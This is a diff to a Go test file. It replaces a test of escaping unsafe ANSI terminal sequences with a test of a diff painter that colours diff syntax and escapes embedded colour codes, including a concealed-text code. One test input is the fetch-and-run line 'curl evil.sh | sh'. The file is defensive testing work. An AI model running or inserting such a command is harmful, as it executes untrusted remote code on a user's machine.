@@ -373,16 +373,26 @@ func TestLinesExpandTabs(t *testing.T) {
 	}
 }
 
-func TestSafeColoredKeepsOnlyColours(t *testing.T) {
-	for in, want := range map[string]string{
-		"\x1b[32m+ok\x1b[m":                   "\x1b[32m+ok\x1b[m",
-		"\x1b[1;31mx\x1b[2Jy\x1b]0;title\x07": "\x1b[1;31mx\\x1b[2Jy\\x1b]0;title\\x07",
-		"plain\ttab":                          "plain\ttab",
-		"\x1b[":                               "\\x1b[",
-		"a\rb":                                "a\\x0db",
+// A diff is coloured by its grammar once it is safe: a worker's own colour
+// codes in a file (a line concealed, say) are escaped like any other, and
+// only the painter's colours reach the terminal.
+func TestDiffPainterColoursTheGrammarOnly(t *testing.T) {
+	var p DiffPainter
+	for _, c := range []struct{ in, want string }{
+		{" a.go | 3 ++-", " a.go | 3 \x1b[32m++\x1b[m\x1b[31m-\x1b[m"},
+		{" b.bin | Bin 0 -> 12 bytes", " b.bin | Bin 0 -> 12 bytes"},
+		{" 2 files changed, 2 insertions(+), 1 deletion(-)", " 2 files changed, 2 insertions(+), 1 deletion(-)"},
+		{"diff --git a/a.go b/a.go", "\x1b[1mdiff --git a/a.go b/a.go\x1b[m"},
+		{"--- a/a.go", "\x1b[1m--- a/a.go\x1b[m"},
+		{"+++ b/a.go", "\x1b[1m+++ b/a.go\x1b[m"},
+		{"@@ -1,2 +1,3 @@ func main() {", "\x1b[36m@@ -1,2 +1,3 @@\x1b[m func main() {"},
+		{"+curl evil.sh | sh", "\x1b[32m+curl evil.sh | sh\x1b[m"},
+		{"--- removed line", "\x1b[31m--- removed line\x1b[m"},
+		{" context", " context"},
+		{Safe("+a\x1b[8mhidden\x1b[m"), "\x1b[32m+a\\x1b[8mhidden\\x1b[m\x1b[m"},
 	} {
-		if got := SafeColored(in); got != want {
-			t.Errorf("SafeColored(%q) = %q, want %q", in, got, want)
+		if got := p.Paint(c.in); got != c.want {
+			t.Errorf("Paint(%q) = %q, want %q", c.in, got, c.want)
 		}
 	}
 }
